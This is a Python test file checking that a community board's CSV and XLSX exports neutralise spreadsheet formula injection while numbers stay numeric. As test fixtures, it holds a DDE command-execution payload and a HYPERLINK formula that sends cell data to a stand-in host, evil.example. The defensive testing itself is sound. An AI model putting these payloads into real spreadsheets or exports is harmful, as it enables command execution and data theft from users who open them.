"""Formula injection (issue 21, defect 2): text a clerk typed that a spreadsheet would take for a formula is written
as text — an apostrophe before it in CSV (OWASP), a string cell in XLSX — and still reads the same; numbers stay
numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from backend.web.exports import csv_bytes, neutralised, xlsx_bytes
from tests.conftest import NOW
from tests.factories import app_runtime
from tests.test_disclosure import at, published, setup

TITLE = "=cmd|' /C calc'!A0"
COUNTERPARTY = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


async def test_the_board_exports_neutralise_formulas(client) -> None:
    from backend.disclosure import commands

    rt = app_runtime(client)
    place = await setup(rt)
    await published(rt, place, title=TITLE)
    october = date(2026, 10, 5)
    await commands.record_entry(rt, at(place, 0), "expense", october, 12_50, "activities", COUNTERPARTY, False)
    await rt.projector.wait_for(rt.event_count(), timeout=10)

    notices = read_csv((await client.get("/board/export/notices.csv?community=test")).text)
    assert notices[1][3] == "'" + TITLE
    finance = read_csv((await client.get("/board/export/finance.csv?community=test")).text)
    assert finance[1][5] == "'" + COUNTERPARTY and finance[1][4] == "12.50"

    for path, column, value in (("notices", 4, TITLE), ("finance", 6, COUNTERPARTY)):
        book = load_workbook(io.BytesIO((await client.get(f"/board/export/{path}.xlsx?community=test")).content))
        cell = book.active.cell(row=2, column=column)
        assert cell.data_type == "s" and cell.value == value, "text, exactly as typed, never a formula"
    amount = load_workbook(io.BytesIO((await client.get("/board/export/finance.xlsx?community=test")).content))
    assert amount.active.cell(row=2, column=5).value == 12.5  # a number the spreadsheet can sum


def test_every_dangerous_start_is_neutralised_and_nothing_else() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralised(f"{start}1+1") == f"'{start}1+1"
    for safe in ("王建国", "1,234.50", "", "a=b"):
        assert neutralised(safe) == safe
    assert neutralised(-12) == -12 and neutralised(Decimal("-1.50")) == Decimal("-1.50")
    rows = read_csv(csv_bytes(["h"], [["+SUM(A1:A9)"], ["@x"], [Decimal("-3.20")]]).decode())
    assert rows == [["h"], ["'+SUM(A1:A9)"], ["'@x"], ["-3.20"]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes("t", ["h"], [["=1+1"], ["-2"], [-2], [NOW.date()]]))).active
    assert [sheet.cell(row=r, column=1).data_type for r in (2, 3, 4)] == ["s", "s", "n"]
    assert sheet.cell(row=2, column=1).value == "=1+1" and sheet.cell(row=4, column=1).value == -2
